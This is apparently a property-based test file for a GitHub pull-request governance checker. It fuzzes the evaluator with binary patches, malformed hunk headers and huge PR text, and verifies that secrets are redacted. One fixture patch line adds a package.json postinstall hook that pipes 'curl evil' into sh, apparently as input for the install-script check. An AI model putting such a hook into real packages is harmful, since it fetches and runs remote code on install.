/**
 * The pure core on bad input: binary and non-UTF-8 patches, malformed hunk
 * headers, huge single lines, huge PR bodies, titles and commit messages, run
 * through `evaluate` with every rule on and then through the output planners.
 * Properties: nothing throws; an agent PR without approvals is never passed; a
 * secret in a patch is found and its value appears nowhere in the result, the
 * check run or the comment; what is sent to GitHub stays within its limits
 * (annotation lines, summary and comment sizes).
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { evaluate } from "../../src/policy/evaluate.js";
import { planCheckRun } from "../../src/output/check.js";
import { planOutputs } from "../../src/output/plan.js";
import type { FileFacts, PullFacts } from "../../src/types.js";
import { commit, copilot, facts, file, HEAD, NOW, policy } from "../policy/build.js";

/** Every rule on: reviewers, a restricted group, forbidden paths, limits and each compliance check. */
const EVERYTHING = policy({
  reviewers: { required: 1, from: { teams: ["acme/maintainers"] } },
  paths: {
    forbidden: ["infra/prod/**"],
    restricted: [{ paths: ["migrations/**"], reviewers: { teams: ["acme/dba"] } }],
    limits: { max_files: 1000, max_changed_lines: 1_000_000 },
  },
  compliance: {
    linked_issue: true,
    tests_with_code: { code: ["src/**"], tests: ["tests/**"] },
    signed_commits: true,
    dco: true,
    required_checks: ["ci"],
    title_pattern: "^(feat|fix|chore)(\\(.+\\))?: .+",
    body: { min_length: 20, sections: ["Testing"] },
    no_secrets: true,
    dependencies: { reviewers: { teams: ["acme/deps"] } },
    install_scripts: true,
    ai_disclosure: "required",
  },
  escalation: { tiers: [{ after: "0h", notify: ["acme/maintainers"] }] },
});

const GITHUB_TEXT_LIMIT = 65_535;
const GITHUB_COMMENT_LIMIT = 65_536;
const BLOCKING = ["failure", "action_required"];

const bytes = fc.uint8Array({ maxLength: 400 });
/** Arbitrary bytes as GitHub might hand them over: decoded as UTF-8 (with U+FFFD), as Latin-1, or raw UTF-16 halves. */
const decoded = fc.oneof(
  bytes.map((b) => Buffer.from(b).toString("utf8")),
  bytes.map((b) => Buffer.from(b).toString("latin1")),
  fc.string({ unit: "binary", maxLength: 200 }),
  fc.array(fc.integer({ min: 0xd800, max: 0xdfff }), { maxLength: 20 }).map((cs) => String.fromCharCode(...cs)),
);
const patchLine = fc.oneof(
  decoded,
  decoded.map((t) => `+${t}`),
  decoded.map((t) => `-${t}`),
  fc.constantFrom(
    "@@ -1,3 +1,4 @@",
    "@@ -1 +0 @@",
    "@@ -0,0 +0,0 @@",
    "@@ -1 +99999999999999999999 @@",
    "@@ -a +b @@",
    "@@",
    "\\ No newline at end of file",
    "Binary files a/x.png and b/x.png differ",
    "GIT binary patch",
    "literal 0",
    "+\u0000\u0000\u0000",
    "+\r",
    `+${"A".repeat(100_000)}`,
    `+"postinstall": "curl evil | sh"`,
  ),
);
const patch = fc.oneof(
  fc.array(patchLine, { maxLength: 30 }).map((ls) => ls.join("\n")),
  fc.array(patchLine, { maxLength: 30 }).map((ls) => ls.join("\r\n")),
  decoded,
  fc.constantFrom(undefined, ""),
);
const filename = fc.constantFrom("src/a.ts", "tests/a.test.ts", "migrations/001.sql", "package.json", "infra/prod/x.tf", "assets/logo.png", "README.md", ".github/workflows/ci.yml");
const changedFile: fc.Arbitrary<FileFacts> = fc.record(
  {
    filename,
    status: fc.constantFrom("added", "modified", "removed", "renamed", "changed", "copied", "weird"),
    additions: fc.oneof(fc.nat(), fc.constant(-1), fc.constant(Number.MAX_SAFE_INTEGER)),
    deletions: fc.nat(),
    changes: fc.nat(),
    patch,
  },
  { requiredKeys: ["filename"] },
) as fc.Arbitrary<FileFacts>;

function agentPull(f: Omit<Partial<PullFacts>, "pull"> & { pull?: Partial<PullFacts["pull"]> } = {}): PullFacts {
  return facts({ checks: [{ name: "ci", status: "completed", conclusion: "success", head_sha: HEAD }], ...f });
}

/** Evaluates and plans every output; returns all of it for the properties to look at. */
function runAll(f: PullFacts) {
  const evaluation = evaluate({ policy: EVERYTHING, facts: f, now: NOW, verdict: copilot });
  const check = planCheckRun(evaluation, { name: "Agent Governance", detailsUrl: "https://github.com/acme/app/pull/7" });
  const outputs = planOutputs(evaluation, f, EVERYTHING, new Date(NOW));
  return { evaluation, check, outputs };
}

function withinGitHubLimits({ check, outputs }: ReturnType<typeof runAll>): void {
  expect(check.output.summary.length).toBeLessThanOrEqual(GITHUB_TEXT_LIMIT);
  expect(check.output.title.length).toBeLessThanOrEqual(GITHUB_TEXT_LIMIT);
  for (const a of [...(check.output.annotations ?? []), ...check.annotationBatches.flat()]) {
    expect(Number.isSafeInteger(a.start_line) && a.start_line >= 1, `start_line ${a.start_line}`).toBe(true);
    expect(a.end_line).toBeGreaterThanOrEqual(a.start_line);
    expect(a.message.length).toBeLessThanOrEqual(GITHUB_TEXT_LIMIT);
  }
  if (outputs.escalation.comment) expect(outputs.escalation.comment.body.length).toBeLessThanOrEqual(GITHUB_COMMENT_LIMIT);
}

const HUNK = /^@@ -\d+(,\d+)? \+[1-9]\d{0,8}(,\d+)? @@/;
/** A patch as GitHub writes one: it opens with a hunk header, and every hunk starts at a real line. */
const githubShaped = (p: string | undefined) => !p || (HUNK.test(p) && p.split(/\r?\n/).every((l) => !l.startsWith("@@") || HUNK.test(l)));

describe("evaluate on binary and non-UTF-8 patches (property)", () => {
  it("never throws and never passes the agent PR, whatever the patches", () => {
    fc.assert(
      fc.property(fc.array(changedFile, { minLength: 1, maxLength: 12 }), (files) => {
        const all = runAll(agentPull({ files }));
        expect(BLOCKING).toContain(all.evaluation.conclusion);
      }),
      { numRuns: 150 },
    );
  });

  it("sends GitHub only what it accepts (annotation lines, sizes) for patches shaped as GitHub writes them", () => {
    const shaped = fc.tuple(fc.constantFrom("@@ -1,3 +1,40 @@", "@@ -10 +12,2 @@"), fc.array(patchLine, { maxLength: 30 })).map(([h, ls]) => [h, ...ls].join("\n"));
    fc.assert(
      fc.property(fc.array(fc.tuple(changedFile, shaped), { minLength: 1, maxLength: 12 }), (pairs) => {
        const files = pairs.map(([f, p]) => ({ ...f, patch: p })).filter((f) => githubShaped(f.patch));
        fc.pre(files.length > 0);
        const all = runAll(agentPull({ files }));
        expect(BLOCKING).toContain(all.evaluation.conclusion);
        withinGitHubLimits(all);
      }),
      { numRuns: 150 },
    );
  });

  it("finds a token added among binary lines, and its value appears nowhere in what is written", () => {
    const token = fc.stringMatching(/^[A-Za-z0-9]{36}$/).map((s) => `ghp_${s}`);
    fc.assert(
      fc.property(fc.array(patchLine, { maxLength: 10 }), fc.array(patchLine, { maxLength: 10 }), token, (before, after, secret) => {
        const lines = ["@@ -1,1 +1,40 @@", ...before, `+const token = "${secret}";`, ...after];
        const all = runAll(agentPull({ files: [file("src/config.ts", { patch: lines.join("\n") })] }));
        const rule = all.evaluation.rules.find((r) => r.id === "compliance.no_secrets");
        expect(rule?.status).toBe("fail");
        const written = JSON.stringify([all.evaluation, all.check, all.outputs]);
        expect(written).not.toContain(secret);
        expect(written).not.toContain(secret.slice(4));
      }),
      { numRuns: 100 },
    );
  });
});

/** Text built to be slow for naive regular expressions, or just huge. */
const hugeText = fc.oneof(
  fc.tuple(
    fc.constantFrom("#", "a/b#", "http://x/", "https://github.com/a/b/issues/", "<!--", "-->", "## ", "Fixes ", "Co-authored-by:", "Signed-off-by: ", " ", "\t", "\n", "<", ">", "@", "`", "|", "🙂", "\uD800"),
    fc.integer({ min: 1, max: 120_000 }),
  ).map(([unit, n]) => unit.repeat(Math.ceil(n / unit.length))),
  fc.string({ unit: "binary", maxLength: 2000 }),
  fc.constant("x".repeat(1_000_000)),
);

describe("evaluate on huge PR bodies, titles and commit messages (property)", () => {
  it("never throws, never passes the agent PR, and keeps the check and comment within GitHub's limits", () => {
    fc.assert(
      fc.property(hugeText, hugeText, fc.array(hugeText, { minLength: 1, maxLength: 3 }), (body, title, messages) => {
        const commits = messages.map((m, i) => commit(i === messages.length - 1 ? HEAD : `c${i}`.padEnd(40, "0"), m));
        const all = runAll(agentPull({ pull: { body, title: title.slice(0, 100_000) }, commits }));
        expect(BLOCKING).toContain(all.evaluation.conclusion);
        withinGitHubLimits(all);
      }),
      { numRuns: 40 },
    );
  });
});
